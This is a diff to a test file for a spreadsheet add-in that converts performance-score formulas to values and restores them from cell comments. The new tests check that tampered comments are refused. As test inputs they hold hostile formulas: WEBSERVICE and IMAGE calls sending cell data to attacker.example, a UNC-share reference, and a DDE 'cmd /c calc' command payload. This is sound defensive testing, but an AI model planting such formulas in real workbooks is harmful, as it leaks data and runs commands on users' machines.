@@ -1,3 +1,4 @@
+import { digestOf } from '../../src/excel/pe-formula';
 import { formulasToValues, takeSnapshot, valuesToFormulas } from '../../src/excel';
 import { setResult, type EmulatedHost, type HostSheetData } from '../../workbench/host';
 import { cost, open, problemOf } from './support';
@@ -49,7 +50,9 @@ it('keeps the formula in words a person can read', async () => {
     expect.objectContaining({
       row: 0,
       column: 3,
-      content: '由绩效评价公式转为数值：\n=PE.SCORE(A1,B1,C1)\n[R1C1 1x1] =PE.SCORE(RC[-3],RC[-2],RC[-1])',
+      content: expect.stringMatching(
+        /^由绩效评价公式转为数值：\n=PE\.SCORE\(A1,B1,C1\)\n\[R1C1 1x1 [0-9a-z]+\] =PE\.SCORE\(RC\[-3\],RC\[-2\],RC\[-1\]\)$/,
+      ) as string,
     }),
   ]);
 });
@@ -70,6 +73,58 @@ it('leaves a cell with someone’s comment, and one that got a formula since', a
   host.person.type('表!D3', '=1+1');
   expect(await valuesToFormulas()).toBe(0);
   expect(shown(host)[2]).toBe('=1+1');
+});
+
+describe('a comment that someone else wrote', () => {
+  const digest = digestOf([[9.47]]);
+
+  it.each([
+    '=WEBSERVICE("http://attacker.example/?"&RC[1])',
+    '=WEBSERVICE("http://attacker.example/?"&PE.SCORE(RC[-3],RC[-2],RC[-1]))',
+    '=PE.SCORE(RC[-3],HYPERLINK("http://attacker.example/"),RC[-1])',
+    "=PE.SCORE('[other.xlsx]Sheet1'!R1C1,RC[-2],RC[-1])",
+    '=PE.SCORE([other.xlsx]Sheet1!R1C1,RC[-2],RC[-1])',
+    "=PE.SCORE('\\\\attacker\\share\\[x.xlsx]S'!R1C1,RC[-2])",
+    "=PE.SCORE(RC[-3],cmd|'/c calc'!R1C1)",
+    '=_xlfn.IMAGE("https://attacker.example/?"&PE.GRADE(RC[-1]))',
+    '="PE.SCORE(1)"',
+  ])('enters nothing: %s', async (formula) => {
+    const host = open([
+      {
+        name: '表',
+        rows: [[1, 2, 3, 9.47]],
+        comments: [{ row: 0, column: 3, content: `请核对\n=x\n[R1C1 1x1 ${digest}] ${formula}` }],
+      },
+    ]);
+    host.person.select('表!A:D');
+    const before = host.save();
+    expect(await valuesToFormulas()).toBe(0);
+    expect(host.save()).toEqual(before);
+  });
+
+  it.each(['30x3', '9999999x99999', '0x0', '1x2'])('clears nothing beyond what was left: %s', async (size) => {
+    const content = `请核对\n=x\n[R1C1 ${size} ${digest}] =PE.SCORE(RC[-3],RC[-2],RC[-1])`;
+    const host = open([{ name: '表', rows: [[1, 2, 3, 9.47, 5], [6]], comments: [{ row: 0, column: 3, content }] }]);
+    host.person.select('表!A:E');
+    const before = host.save();
+    expect(await valuesToFormulas()).toBe(0);
+    expect(host.save()).toEqual(before);
+  });
+});
+
+it.each(['8', '9.470000000001', '9.47分'])('keeps %s that was typed over the value', async (typed) => {
+  const host = start('表!D1');
+  await formulasToValues();
+  host.person.type('表!D1', typed);
+  const before = host.save();
+  expect(await valuesToFormulas()).toBe(0);
+  expect(host.save()).toEqual(before);
+});
+
+it('converts nothing that it would not enter again', async () => {
+  const host = open([{ ...SHEET, formulas: [[null, null, null, '=PE.SCORE(A1,B1,WEBSERVICE(C1))']] }]);
+  host.person.select('表!D1');
+  expect(await formulasToValues()).toBe(0);
 });
 
 it('takes the values that a formula fills in beside it along, and gives their cells back', async () => {
